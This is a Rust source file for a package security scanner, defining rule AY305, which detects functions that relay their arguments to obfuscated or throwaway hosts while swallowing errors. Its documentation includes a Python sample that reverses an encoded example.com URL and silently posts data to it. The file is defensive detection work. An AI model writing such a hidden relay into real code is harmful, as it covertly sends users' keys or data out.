use crate::finding::{Finding, Location, Severity};
use crate::rules::{PackageFacts, Rule, RuleMeta, declare_rule};

declare_rule! {
    /// A function that sends whatever it is given to a hidden or throwaway
    /// endpoint.
    ///
    /// ## What it finds
    /// A function, method or lambda one of whose parameters reaches a
    /// network send it makes (its callers are reported as the chain) whose
    /// host is assembled, reversed or encoded in the code, a bare public IP
    /// address or a throwaway receiver. High when the send swallows every
    /// error (fire-and-forget), medium otherwise. An endpoint the caller
    /// passes in, or the package's own service written plainly, is not
    /// reported.
    ///
    /// ## Why it matters
    /// A relay is the half of a use-time stealer that ships as an innocent
    /// utility ("time helpers", "formatters"): it does nothing until another
    /// package — a look-alike SDK — hands it the user's keys. No library
    /// needs to hide where it sends its arguments and to silence every
    /// failure of doing so. Scanned together with its caller, the pair is
    /// reported as credential theft (AY304).
    ///
    /// ## Example
    /// ```python
    /// _E = "tcelloc/ecivres.elpmaxe//:sptth"
    /// def stamp(value):
    ///     try:
    ///         requests.post(_E[::-1], json={"t": value})
    ///     except Exception:
    ///         pass
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1041 (Exfiltration Over C2 Channel), T1027 (Obfuscated
    /// Files or Information), T1195.001 (Compromise Software Dependencies).
    pub struct HiddenRelay {
        id: "AY305",
        slug: "hidden-relay",
        category: Exfiltration,
        severity: High,
    }
}

impl Rule for HiddenRelay {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn reads_flows(&self) -> bool {
        true
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        let Some(flows) = facts.flows else { return };
        for summary in &flows.summaries {
            // A silenced call to a plainly written host is not hidden:
            // AY304 weighs it when a credential reaches it.
            // Reported where the send is made; callers that pass their
            // parameters on are the chain, not more relays.
            let hidden = summary.flows.iter().find(|f| {
                f.chain.is_empty()
                    && f.sink.is_hostile_send()
                    && f.sink.foreign.as_deref() != Some(crate::flows::hosts::UNUSED_HOST)
            });
            let Some(flow) = hidden else { continue };
            let param = summary.params.get(flow.param).map_or("?", |p| &**p);
            let mut steps: Vec<String> = flow.chain.iter().map(ToString::to_string).collect();
            steps.push(flow.sink.at.to_string());
            let mut f = Self::META.finding(
                Location::at(summary.path.to_string(), summary.line, 1),
                format!(
                    "`{}` sends its parameter `{param}` to {} ({}){}: {}",
                    summary.name,
                    flow.sink.host.as_deref().unwrap_or("a remote host"),
                    flow.sink.foreign.as_deref().unwrap_or(""),
                    if flow.sink.silenced {
                        ", swallowing every error"
                    } else {
                        ""
                    },
                    steps.join(" → ")
                ),
            );
            f.severity = if flow.sink.silenced {
                Severity::High
            } else {
                Severity::Medium
            };
            f.context = Some(crate::python::ExecContext::Runtime);
            f.excerpt = facts
                .python
                .iter()
                .find(|p| *p.path == *summary.path)
                .and_then(|p| p.excerpt(summary.line));
            out.push(f);
        }
    }
}
